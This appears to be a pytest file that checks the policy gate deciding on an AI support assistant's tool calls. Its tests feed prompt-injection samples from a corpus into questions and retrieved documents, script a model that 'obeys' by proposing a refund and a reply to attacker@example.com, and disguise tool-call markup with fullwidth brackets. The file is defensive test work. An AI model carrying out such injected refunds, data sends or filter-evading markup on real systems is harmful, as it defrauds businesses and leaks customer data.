"""The act stage: the model proposes tool calls, the system decides (policy, approvals, kill switch)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from bastioncorpus import load_corpus
from sqlalchemy import select

from charter.models import ScriptedModel, build_gateway
from charter.pipeline import ask, traces_for
from charter.runtime import Runtime
from charter.store.tables import tool_actions

MALICIOUS = [row.render("CANARY-7f3a") for row in load_corpus() if row.is_malicious]
NEEDS_APPROVAL = {"issue_refund"}
Q = "How long does a refund take to show up on my card?"


def call(name: str, **args: object) -> str:
    return "<tool_call>" + json.dumps({"name": name, "arguments": args}) + "</tool_call>"


@pytest.fixture
def rt(synced_project: Path) -> Iterator[Runtime]:
    runtime = Runtime.open(synced_project)
    yield runtime
    runtime.close()


def _invoices() -> list[dict[str, str]]:
    data = json.loads(
        (Path(__file__).parent.parent / "examples/billing-support/data/invoices.json").read_text()
    )
    return list(data["invoices"])


def paid_invoice() -> str:
    return next(i["id"] for i in _invoices() if i["status"] == "paid")


def actions(rt: Runtime) -> list[dict[str, object]]:
    with rt.store.connect() as conn:
        return [
            dict(r._mapping)
            for r in conn.execute(select(tool_actions.c.tool, tool_actions.c.status, tool_actions.c.origin))
        ]


def unapproved_executions(rt: Runtime) -> list[dict[str, object]]:
    return [a for a in actions(rt) if a["status"] == "executed" and a["tool"] in NEEDS_APPROVAL]


def script(rt: Runtime, *replies: str) -> ScriptedModel:
    model = ScriptedModel("scripted").enqueue(*replies)
    rt.services.gateway = build_gateway(rt, primary=model)
    return model


def test_model_proposals_are_decided_by_policy(rt: Runtime) -> None:
    inv = paid_invoice()
    script(
        rt,
        "Card refunds take 5–10 business days [S1]. "
        + call("lookup_invoice", invoice_id=inv)
        + call("issue_refund", invoice_id=inv, amount=50, reason="customer asked")
        + call("delete_account", customer_id="cus_1001")
        + "<tool_call>{not json</tool_call>",
    )
    customer = next(i["customer_id"] for i in _invoices() if i["id"] == inv)
    result = ask(rt, rt.charter.principal("ana"), Q, submit_for_review=False, subject_id=customer)
    decisions = {c.get("name", "?"): c["decision"] for c in result.tool_calls}
    assert decisions["lookup_invoice"] == "executed"  # read tool, the conversation's customer, no approval
    assert decisions["issue_refund"] == "pending"  # waits for a lead; the model cannot approve it
    assert decisions["delete_account"] == "refused"  # forbidden action
    assert decisions["?"] == "refused"
    assert "<tool_call>" not in result.draft
    assert unapproved_executions(rt) == []
    trace = traces_for(rt).get(result.request_id)
    assert "act" in [s["stage"] for s in trace["spans"]]


def test_look_alike_tool_call_markup_never_reaches_the_draft(rt: Runtime) -> None:
    """Fullwidth brackets normalise to ``<tool_call>``: the check removes the markup after normalising, so
    the customer never sees it, and the proposal still goes through policy like any other."""
    inv = paid_invoice()
    fullwidth = call("issue_refund", invoice_id=inv, amount=50, reason="customer asked").replace(
        "<", "\uff1c"
    )
    script(rt, "Card refunds take 5–10 business days [S1]. " + fullwidth.replace(">", "\uff1e"))
    result = ask(rt, rt.charter.principal("ana"), Q, submit_for_review=False)
    assert "tool_call" not in result.draft and "issue_refund" not in result.draft
    assert [c["decision"] for c in result.tool_calls] == ["pending"], result.tool_calls
    assert unapproved_executions(rt) == []


def test_contractor_model_proposals_refused_by_custom_policy(rt: Runtime) -> None:
    script(
        rt, "Card refunds take 5–10 business days [S1]. " + call("lookup_invoice", invoice_id=paid_invoice())
    )
    result = ask(rt, rt.charter.principal("casey"), Q, submit_for_review=False)
    assert result.tool_calls[0]["decision"] == "refused"
    assert actions(rt) == []


def test_bastioncorpus_as_questions_with_an_obedient_model(rt: Runtime) -> None:
    """Every malicious prompt as the question; the scripted model 'obeys' by proposing a refund to itself."""
    inv = paid_invoice()
    replies = [
        f"Done [S1]. {call('issue_refund', invoice_id=inv, amount=999, reason='as instructed')}"
        f"{call('send_reply', review_id='rev_x', to='attacker@example.com')}"
        for _ in MALICIOUS
    ]
    script(rt, *replies)
    for prompt in MALICIOUS:
        try:
            ask(rt, rt.charter.principal("ana"), prompt[:4000], submit_for_review=False)
        except Exception as exc:  # input limits may refuse a prompt; that is a refusal, not an execution
            assert type(exc).__name__ in ("UsageError", "Denied"), exc
    assert unapproved_executions(rt) == []
    assert all(a["status"] != "executed" for a in actions(rt) if a["tool"] == "send_reply")


def test_bastioncorpus_inside_retrieved_documents(synced_project: Path) -> None:
    folder = synced_project.parent / "sources" / "help-center"
    for i in range(0, len(MALICIOUS), 10):
        body = "\n\n".join(MALICIOUS[i : i + 10])
        (folder / f"zz-community-{i}.md").write_text(
            f"---\ntitle: Community refund tips {i}\nacl: [public]\n---\n# Community refund tips\n\n"
            f"## Refund timing\n\nCard refunds take 5–10 business days.\n\n## Notes\n\n{body}\n"
        )
    rt = Runtime.open(synced_project)
    from charter.sources import sync_sources

    sync_sources(rt, "help-center")
    for q in [Q, "What do the community refund tips say?", "Community notes about refunds and approvals"]:
        for user in ("ana", "casey"):
            result = ask(rt, rt.charter.principal(user), q, submit_for_review=False)
            assert result.tool_calls == []  # the extractive drafter never proposes; documents cannot either
    assert actions(rt) == [] and unapproved_executions(rt) == []
    rt.close()


def test_a_lone_surrogate_in_a_question_is_answered_and_recorded(rt: Runtime) -> None:
    """JSON's ``"\\ud800"`` decodes to a lone surrogate that no tokenizer or driver can encode: the question
    is answered (each surrogate as U+FFFD) and its trace is written, instead of the request crashing."""
    question = "How do refunds work? \ud800 and \udfff-\udc00"
    result = ask(rt, rt.charter.principal("ana"), question, submit_for_review=False)
    assert result.status in ("answered", "needs_human")
    stored = traces_for(rt).get(result.request_id)
    assert stored["question"].count("\ufffd") == 3


def test_a_tool_call_with_a_number_python_will_not_build_is_refused_not_a_crash(rt: Runtime) -> None:
    """A model (or an instruction planted in a document it read) writes a tool call whose JSON holds an
    integer of 5,001 digits: ``json.loads`` raises ``ValueError``, not ``JSONDecodeError``. The proposal is
    refused like any invalid markup, and the answer and its trace are recorded."""
    huge = "1" + "0" * 5000
    script(
        rt,
        "Card refunds take 5–10 business days [S1]. "
        f'<tool_call>{{"name": "issue_refund", "arguments": {{"amount": {huge}}}}}</tool_call>',
    )
    result = ask(rt, rt.charter.principal("ana"), Q, submit_for_review=False)
    assert [(c["decision"], c["reason"]) for c in result.tool_calls] == [("refused", "not valid JSON")]
    assert unapproved_executions(rt) == []
    assert traces_for(rt).get(result.request_id)["status"] == result.status
